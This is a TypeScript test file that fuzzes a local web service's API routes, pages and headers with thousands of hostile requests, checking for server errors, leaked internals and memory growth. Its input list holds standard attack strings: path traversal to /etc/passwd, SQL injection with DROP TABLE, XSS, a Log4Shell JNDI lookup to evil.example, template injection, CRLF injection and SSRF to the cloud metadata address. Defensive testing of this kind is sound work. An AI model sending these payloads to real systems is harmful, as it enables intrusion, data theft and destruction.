import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { calls } from '../openapi.ts';
import { startService, type ServiceProcess } from '../testing/start-service.ts';
import { isFullRun } from '../testing/full-run.ts';

const callCount = isFullRun ? 12_000 : 300;

/** Values that vulnerability scanners put into fields, addresses and headers. */
const texts = [
  '',
  ' ',
  '\u0000',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%c0%ae%c0%ae/',
  "' OR '1'='1",
  '1; DROP TABLE users --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'a\r\nSet-Cookie: x=1',
  'http://127.0.0.1:22/',
  'http://[::ffff:169.254.169.254]/latest/meta-data',
  'file:///etc/passwd',
  'x'.repeat(5000),
  '𝒳'.repeat(700),
  '\ud800',
  '\u202egnp.exe',
  'ﷺ'.repeat(300),
  '#'.repeat(50),
  '$&$1$$',
  'rgb(1,2,3);}</style><script>',
  '#12345g',
  '1e400',
  '-0',
  'true',
  'null',
  'law-x-a1b2c3',
  'a@b',
  'a@b.co\nbcc: c@d.co',
] as const;
const values: readonly unknown[] = [
  ...texts,
  null,
  true,
  0,
  -1,
  1e308,
  [],
  {},
  [['a']],
  { toString: 'x' },
  { length: 1e9 },
  Array.from({ length: 2000 }, () => 'a'),
];

let folder = '';
let service: ServiceProcess;
let cookie = '';
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'firstlook-hostile-'));
  service = await startService({ folder });
  const answer = await fetch(`${service.origin}/api/auth/email/register`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: service.origin },
    body: JSON.stringify({
      email: 'ada@agency.example',
      username: 'Ada',
      password: 'correct horse battery',
    }),
  });
  cookie = answer.headers.get('set-cookie')?.split(';')[0] ?? '';
}, 60_000);
afterAll(async () => {
  await service.kill('SIGTERM');
  rmSync(folder, { recursive: true, force: true });
});

function residentBytes(): number {
  const pages = readFileSync(`/proc/${service.child.pid ?? 0}/statm`, 'utf8').split(' ')[1];
  return Number(pages) * 4096;
}

/** Fields of a call's body; nested ones by their path. */
function listFields(body: z.ZodType | undefined): string[] {
  if (!(body instanceof z.ZodObject)) return [];
  return Object.entries<z.ZodType>(body.shape as Record<string, z.ZodType>).flatMap(
    ([name, schema]) => {
      const inner = schema instanceof z.ZodOptional ? (schema.unwrap() as z.ZodType) : schema;
      return [name, ...listFields(inner).map((field) => `${name}.${field}`)];
    },
  );
}

function bodyWith(field: string, value: unknown): string {
  const [first = '', second] = field.split('.');
  const usual = {
    name: 'Ada',
    email: 'ada@agency.example',
    message: 'Hello',
    websiteData: {},
    url: 'example.com',
  };
  return JSON.stringify({ ...usual, [first]: second === undefined ? value : { [second]: value } });
}

interface Hostile {
  readonly method: string;
  readonly path: string;
  readonly body?: string;
  readonly headers?: Record<string, string>;
}

/**
 * Every call with every value in every field, parameter, query and header, and every page's address
 * with them.
 */
function* hostileRequests(): Generator<Hostile> {
  // Streams of events never end.
  const remaining = calls.filter(
    ({ path }) => !/logout|\/auth\/user$|\/events$/u.test(path) || path.startsWith('/api/demos'),
  );
  for (const call of remaining) {
    const filled = call.path.replace(/\{\w+\}/gu, 'law-x-a1b2c3');
    for (const field of listFields(call.body)) {
      for (const value of values)
        yield { method: call.method, path: filled, body: bodyWith(field, value) };
    }
    for (const text of texts) {
      const part = encodeURIComponent(text.toWellFormed());
      if (call.path.includes('{'))
        yield { method: call.method, path: call.path.replace(/\{\w+\}/gu, part), body: '{}' };
      yield { method: call.method, path: `${filled}?q=${part}&${part}`, body: '{}' };
    }
  }
  const prefixes = [
    '/',
    '/demos/',
    '/demos/law-x-a1b2c3/',
    '/firms/',
    '/blog/',
    '/share/',
    '/_astro/',
    '/demo?website=',
    '/?firm=',
    '/verify-email?token=',
  ];
  for (const prefix of prefixes) {
    for (const text of texts) {
      yield { method: 'GET', path: prefix + encodeURIComponent(text.toWellFormed()) };
      yield { method: 'GET', path: prefix + text.replace(/[^\x21-\x7e]|[#\\]/gu, '') };
    }
  }
  for (const name of [
    'cookie',
    'if-none-match',
    'accept-encoding',
    'accept',
    'range',
    'x-forwarded-for',
    'user-agent',
    'referer',
    'origin',
    'content-type',
  ]) {
    for (const text of texts)
      yield {
        method: 'GET',
        path: '/api/auth/user',
        headers: { [name]: text.replace(/[^\x20-\x7e]/gu, '') },
      };
  }
}

test(`${callCount.toLocaleString('en')} hostile requests are each answered, none with an error of ours, and take no memory with them`, async () => {
  const all = [...hostileRequests()];
  expect(all.length).toBeGreaterThan(3000);
  // A short run takes every 7919th request, which reaches all kinds; a long one takes several
  // rounds.
  const step = 7919;
  const chosen = Array.from(
    { length: callCount },
    (_, index) => all[(index * step) % all.length],
  ).filter((one) => one !== undefined);
  const failures: string[] = [];
  let before = 0;
  const run = async (requests: readonly Hostile[]): Promise<void> => {
    for (const { method, path, body, headers } of requests) {
      const signedIn = method === 'GET' || !path.includes('password');
      const answer = await fetch(service.origin + path, {
        method,
        redirect: 'manual',
        headers: {
          origin: service.origin,
          ...(signedIn && { cookie }),
          ...(body !== undefined && { 'content-type': 'application/json' }),
          ...headers,
        },
        ...(body !== undefined && method !== 'GET' && { body }),
      });
      const text = await answer.text();
      // 503 is a correct answer to a flood of sign-ins.
      if (answer.status >= 500 && answer.status !== 503)
        failures.push(
          `${method} ${path.slice(0, 100)} ${body?.slice(0, 100) ?? ''}: ${answer.status}`,
        );
      if (/node_modules|\bat \w+ \(|SQLITE_|params: /u.test(text))
        failures.push(`${method} ${path.slice(0, 100)} tells of its inside`);
    }
  };
  const warm = Math.floor(chosen.length / 4);
  await Promise.all(
    [0, 1, 2, 3].map((part) => run(chosen.slice(0, warm).filter((_, index) => index % 4 === part))),
  );
  before = residentBytes();
  await Promise.all(
    [0, 1, 2, 3].map((part) => run(chosen.slice(warm).filter((_, index) => index % 4 === part))),
  );
  expect(failures).toEqual([]);
  expect(service.output()).not.toMatch(/"level":(?:50|60)/u);
  if (isFullRun) expect(residentBytes() / before).toBeLessThan(1.3);
  expect((await fetch(`${service.origin}/api/health`)).status).toBe(200);
}, 900_000);
